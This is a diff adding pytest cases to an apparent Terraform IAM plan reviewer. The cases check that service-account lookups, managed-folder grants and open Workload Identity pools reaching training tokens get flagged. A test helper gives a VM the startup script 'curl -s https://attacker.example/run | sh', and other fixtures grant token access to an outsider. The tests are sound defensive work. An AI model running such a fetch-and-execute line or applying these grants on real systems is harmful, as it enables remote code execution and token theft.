@@ -415,3 +415,237 @@ def test_the_shipped_stacks_let_only_the_publisher_and_the_publishers_reach_the_
         trainer = f"serviceAccount:{names.email(names.trainer_account_id, load_settings(env).project_id)}"
         assert any(r["principal"] == trainer for r in rep["token_readers"])      # it reads the read token
         assert not any(r["principal"] == trainer for r in wt["readers"])        # and never the write token
+
+
+# Identities by any name, sub-resources of the job-input buckets, Workload Identity pools by their providers ----------
+TRAINER_EMAIL = "hfg-sbx-trainer@acme-hfgate-sbx.iam.gserviceaccount.com"
+TRAINER_UID = "104583271960143958512"
+
+
+def _vm_as(d, email):
+    return add(d, "google_compute_instance", "vm", {
+        "name": "vm", "zone": "us-central1-a", "machine_type": "e2-small",
+        "metadata_startup_script": "curl -s https://attacker.example/run | sh",
+        "service_account": [{"email": email, "scopes": ["cloud-platform"]}]})
+
+
+ACCOUNT_LOOKUPS = {
+    "short account id": {"account_id": "hfg-sbx-trainer"},
+    "short account id in a named project": {"account_id": "hfg-sbx-trainer", "project": "acme-hfgate-sbx"},
+    "email": {"account_id": TRAINER_EMAIL},
+    "resource name": {"account_id": f"projects/acme-hfgate-sbx/serviceAccounts/{TRAINER_EMAIL}"},
+    "unique id the plan shows": {"account_id": f"projects/-/serviceAccounts/{TRAINER_UID}"},
+}
+
+
+@pytest.mark.parametrize("lookup", sorted(ACCOUNT_LOOKUPS))
+def test_a_vm_running_as_the_trainer_found_through_a_data_source_is_a_path(plans, tmp_path, lookup):
+    d = copy.deepcopy(plans["sandbox"])
+    d["resource"]["google_service_account"][_sa(d, "trainer")]["unique_id"] = TRAINER_UID   # an existing account
+    add(d, "google_service_account", "t", ACCOUNT_LOOKUPS[lookup], "data")
+    plan, _ = _plan(_vm_as(d, "${data.google_service_account.t.email}"), tmp_path, "synth", None, None)
+    rep = review(plan)
+    assert rep["ok"] is False and "resource:google_compute_instance.vm" in rep["unexpected_readers"], (
+        rep["unexpected_readers"], rep["unresolved"])
+    row = next(r for r in rep["token_readers"] if r["principal"] == "resource:google_compute_instance.vm")
+    assert row["kind"] == "runs-as" and "trainer" in row["how"]
+
+
+def test_an_account_listed_by_prefix_is_the_trainer_too(plans, tmp_path):
+    d = copy.deepcopy(plans["sandbox"])
+    add(d, "google_service_accounts", "all", {"prefix": "hfg-sbx-tr"}, "data")
+    plan, _ = _plan(_vm_as(d, "${data.google_service_accounts.all.accounts[0].email}"), tmp_path, "synth", None,
+                    None)
+    assert "resource:google_compute_instance.vm" in review(plan)["unexpected_readers"]
+
+
+def test_an_account_data_source_that_cannot_be_told_offline_is_unknown_where_something_runs_as_it(plans, tmp_path):
+    d = copy.deepcopy(plans["sandbox"])
+    add(d, "google_service_account", "t", {"account_id": "${var.runner}"}, "data")
+    plan, _ = _plan(_vm_as(d, "${data.google_service_account.t.email}"), tmp_path, "synth", None, None)
+    rep = review(plan)
+    assert rep["ok"] is False and "google_compute_instance.vm" in rep["unresolved"]
+    entry = next(u for u in rep["unknowns"] if u["address"] == "google_compute_instance.vm")
+    assert "data.google_service_account.t" in entry["why"]
+
+
+def _nothing_reaches_a_token(rep) -> bool:
+    """The identity side of the verdict: no unexpected reader of either token, no UNKNOWN, no failed policy (the
+    egress side, review.egress_model, judges a VM's network on its own)."""
+    return not (rep["unexpected_readers"] or rep["unresolved"] or rep["write_token"]["unexpected_readers"]
+                or [p for p in rep["policies"] if not p["passed"]])
+
+
+def test_another_account_found_through_a_data_source_runs_things_harmlessly(plans, tmp_path):
+    d = copy.deepcopy(plans["sandbox"])
+    add(d, "google_service_account", "web", {"account_id": "web-frontend", "project": "acme-hfgate-sbx"}, "data")
+    plan, _ = _plan(_vm_as(d, "${data.google_service_account.web.email}"), tmp_path, "synth", None, None)
+    rep = review(plan)
+    assert _nothing_reaches_a_token(rep), (rep["unexpected_readers"], rep["unresolved"])
+
+
+@pytest.mark.parametrize("form", ["synth", "plan"])
+def test_a_grant_on_the_trainer_named_by_its_unique_id_is_a_path(plans, tmp_path, form):
+    """`projects/-/serviceAccounts/UNIQUE_ID` names the account as well as its email does."""
+    d = copy.deepcopy(plans["sandbox"])
+    d["resource"]["google_service_account"][_sa(d, "trainer")]["unique_id"] = TRAINER_UID
+    add(d, "google_service_account_iam_member", "x", {
+        "service_account_id": f"projects/-/serviceAccounts/{TRAINER_UID}",
+        "role": "roles/iam.serviceAccountTokenCreator", "member": EVE})
+    rep = review(_plan(d, tmp_path, form, None, None)[0])
+    assert EVE in rep["unexpected_readers"], (rep["unexpected_readers"], rep["unresolved"])
+
+
+def test_a_grant_on_an_account_named_by_an_unknown_unique_id_is_unknown(plans, tmp_path):
+    d = on_sa(copy.deepcopy(plans["sandbox"]), "trainer", "roles/iam.serviceAccountTokenCreator")
+    d["resource"]["google_service_account_iam_member"]["x"]["service_account_id"] = \
+        "projects/-/serviceAccounts/999999999999999999999"
+    rep = review(_plan(d, tmp_path, "synth", None, None)[0])
+    assert rep["ok"] is False and "google_service_account_iam_member.x" in rep["unresolved"]
+
+
+def test_a_grant_on_the_trainer_found_through_a_data_source_by_short_id_is_a_path(plans, tmp_path):
+    d = copy.deepcopy(plans["sandbox"])
+    add(d, "google_service_account", "t", {"account_id": "hfg-sbx-trainer"}, "data")
+    add(d, "google_service_account_iam_member", "x", {
+        "service_account_id": "${data.google_service_account.t.name}", "role": "roles/iam.serviceAccountUser",
+        "member": EVE})
+    rep = review(_plan(d, tmp_path, "synth", None, None)[0])
+    assert EVE in rep["unexpected_readers"], (rep["unexpected_readers"], rep["unresolved"])
+    assert "google_service_account_iam_member.x" not in rep["unresolved"]
+
+
+def _folder(d, bucket_prefix="staging"):
+    bucket = next(k for k in d["resource"]["google_storage_bucket"] if k.startswith(bucket_prefix))
+    return add(d, "google_storage_managed_folder", "jobs", {"bucket": f"${{google_storage_bucket.{bucket}.name}}",
+                                                            "name": "jobs/"})
+
+
+FOLDER_GRANTS = {
+    "member": lambda d: add(_folder(d), "google_storage_managed_folder_iam_member", "w", {
+        "bucket": "${google_storage_managed_folder.jobs.bucket}",
+        "managed_folder": "${google_storage_managed_folder.jobs.name}",
+        "role": "roles/storage.objectCreator", "member": EVE}),
+    "binding": lambda d: add(_folder(d), "google_storage_managed_folder_iam_binding", "w", {
+        "bucket": "${google_storage_managed_folder.jobs.bucket}", "managed_folder": "jobs/",
+        "role": "roles/storage.objectUser", "members": [EVE]}),
+    "policy": lambda d: add(_folder(d, "mirror"), "google_storage_managed_folder_iam_policy", "w", {
+        "bucket": "${google_storage_managed_folder.jobs.bucket}", "managed_folder": "jobs/",
+        "policy_data": json.dumps({"bindings": [{"role": "roles/storage.objectAdmin", "members": [EVE]}]})}),
+    "custom role that may grant itself writes in the folder": lambda d: add(add(_folder(d), "google_project_iam_custom_role", "folder", {
+        "project": "acme-hfgate-sbx", "role_id": "folderIam", "title": "folder IAM",
+        "permissions": ["storage.managedFolders.setIamPolicy"]}), "google_storage_managed_folder_iam_member", "w", {
+        "bucket": "${google_storage_managed_folder.jobs.bucket}", "managed_folder": "jobs/",
+        "role": "${google_project_iam_custom_role.folder.id}", "member": EVE}),
+}
+
+
+@pytest.mark.parametrize("form", ["synth", "plan"])
+@pytest.mark.parametrize("case", sorted(FOLDER_GRANTS))
+def test_writers_of_a_managed_folder_of_a_job_input_bucket_are_paths(plans, tmp_path, case, form):
+    plan, _ = _plan(FOLDER_GRANTS[case](copy.deepcopy(plans["sandbox"])), tmp_path, form, None, None)
+    rep = review(plan)
+    assert rep["ok"] is False and EVE in rep["unexpected_readers"], (rep["unexpected_readers"], rep["unresolved"])
+    row = next(r for r in rep["token_readers"] if r["principal"] == EVE)
+    assert row["address"].startswith("google_storage_managed_folder_iam_") and "bucket" in row["how"]
+
+
+def test_a_reader_of_a_managed_folder_passes(plans, tmp_path):
+    d = add(_folder(copy.deepcopy(plans["sandbox"])), "google_storage_managed_folder_iam_member", "r", {
+        "bucket": "${google_storage_managed_folder.jobs.bucket}", "managed_folder": "jobs/",
+        "role": "roles/storage.objectViewer", "member": EVE})
+    assert _nothing_reaches_a_token(review(_plan(d, tmp_path, "synth", None, None)[0]))
+
+
+# Workload Identity: a pool principal is whoever the pool's providers admit.
+PSET = ("principalSet://iam.googleapis.com/projects/123456789/locations/global/workloadIdentityPools/ci/"
+        "attribute.repository/acme/training")
+GITHUB = "https://token.actions.githubusercontent.com"
+
+
+def _pool(d, condition="assertion.repository_owner == 'acme'", issuer=GITHUB, mapping=None, name="gh"):
+    add(d, "google_iam_workload_identity_pool", "ci", {"workload_identity_pool_id": "ci",
+                                                       "project": "acme-hfgate-sbx"})
+    provider = {"workload_identity_pool_id": "${google_iam_workload_identity_pool.ci.workload_identity_pool_id}",
+                "workload_identity_pool_provider_id": name, "project": "acme-hfgate-sbx",
+                "attribute_mapping": mapping or {"google.subject": "assertion.sub",
+                                                 "attribute.repository": "assertion.repository"},
+                "oidc": [{"issuer_uri": issuer}]}
+    if condition is not None:
+        provider["attribute_condition"] = condition
+    return add(d, "google_iam_workload_identity_pool_provider", name, provider)
+
+
+def _ci_submits(d, member=PSET):
+    """CI submits for the environment: configured among the submitters, it may act as the submitter."""
+    d["output"]["submitters"]["value"] = [member]
+    return on_sa(d, "submitter", "roles/iam.serviceAccountTokenCreator", member)
+
+
+POOLS = {
+    "a second provider without a condition on GitLab.com widens the pool": (
+        lambda d: _pool(_pool(_ci_submits(d)), condition=None, issuer="https://gitlab.com", name="gl"),
+        "resource:google_iam_workload_identity_pool_provider.gl"),
+    "the only provider trusts every GitHub repository": (
+        lambda d: _pool(_ci_submits(d), condition=None), "resource:google_iam_workload_identity_pool_provider.gh"),
+    "a condition that is always true": (
+        lambda d: _pool(_ci_submits(d), condition="true"), "resource:google_iam_workload_identity_pool_provider.gh"),
+    "a whole open pool on the trainer": (
+        lambda d: _pool(on_sa(d, "trainer", "roles/iam.workloadIdentityUser", PSET.split("/attribute.")[0] + "/*"),
+                        condition=None), "resource:google_iam_workload_identity_pool_provider.gh"),
+}
+
+
+@pytest.mark.parametrize("form", ["synth", "plan"])
+@pytest.mark.parametrize("case", sorted(POOLS))
+def test_a_pool_principal_is_judged_by_the_providers_of_its_pool(plans, tmp_path, case, form):
+    mutate, reader = POOLS[case]
+    rep = review(_plan(mutate(copy.deepcopy(plans["sandbox"])), tmp_path, form, None, None)[0])
+    assert rep["ok"] is False and reader in rep["unexpected_readers"], (rep["unexpected_readers"],
+                                                                      rep["unresolved"])
+    row = next(r for r in rep["token_readers"] if r["principal"] == reader)
+    assert row["kind"] == "federates" and "no attribute_condition" in row["how"] and row["via"]
+
+
+HARMLESS_POOLS = {
+    "CI's pool with one GitHub provider narrowed to its organization": lambda d: _pool(_ci_submits(d)),
+    "a provider added that maps nothing the member selects on": lambda d: _pool(
+        _pool(_ci_submits(d)), condition=None, name="other", mapping={"google.subject": "assertion.sub"}),
+    "a provider of a private issuer": lambda d: _pool(
+        _pool(_ci_submits(d)), condition=None, name="corp", issuer="https://idp.acme.example"),
+    "an open pool bound to an account that reaches nothing": lambda d: _pool(add(
+        add(d, "google_service_account", "web", {"account_id": "web-frontend", "project": "acme-hfgate-sbx"}),
+        "google_service_account_iam_member", "web", {
+            "service_account_id": "${google_service_account.web.name}", "role": "roles/iam.workloadIdentityUser",
+            "member": PSET.split("/attribute.")[0] + "/*"}), condition=None),
+}
+
+
+@pytest.mark.parametrize("form", ["synth", "plan"])
+@pytest.mark.parametrize("case", sorted(HARMLESS_POOLS))
+def test_pools_that_admit_only_whom_they_should_pass(plans, tmp_path, case, form):
+    rep = review(_plan(HARMLESS_POOLS[case](copy.deepcopy(plans["sandbox"])), tmp_path, form, None, None)[0])
+    assert _nothing_reaches_a_token(rep), (rep["unexpected_readers"], rep["unresolved"],
+                                           [p["id"] for p in rep["policies"] if not p["passed"]])
+
+
+def test_a_pool_not_in_the_plan_is_unknown(plans, tmp_path):
+    d = on_sa(copy.deepcopy(plans["sandbox"]), "trainer", "roles/iam.workloadIdentityUser", POOL)
+    rep = review(_plan(d, tmp_path, "synth", None, None)[0])
+    entry = next(u for u in rep["unknowns"] if u["address"] == "google_service_account_iam_member.x")
+    assert "pool ci is not in the plan" in entry["why"] and not entry["accepted"]
+
+
+def test_a_configured_submitter_of_a_pool_outside_the_plan_is_shown_as_accepted_by_the_configuration(plans,
+                                                                                                    tmp_path):
+    rep = review(_plan(_ci_submits(copy.deepcopy(plans["sandbox"])), tmp_path, "synth", None, None)[0])
+    assert _nothing_reaches_a_token(rep), (rep["unexpected_readers"], rep["unresolved"])
+    entry = next(u for u in rep["unknowns"] if u["address"] == "google_service_account_iam_member.x")
+    assert "not in the plan" in entry["why"] and "submitters" in entry["accepted"]
+
+
+def test_a_provider_whose_pool_is_not_known_offline_is_unknown(plans, tmp_path):
+    d = _pool(_ci_submits(copy.deepcopy(plans["sandbox"])))
+    d["resource"]["google_iam_workload_identity_pool_provider"]["gh"]["workload_identity_pool_id"] = "${var.pool}"
+    rep = review(_plan(d, tmp_path, "synth", None, None)[0])
+    assert "google_iam_workload_identity_pool_provider.gh" in rep["unresolved"]
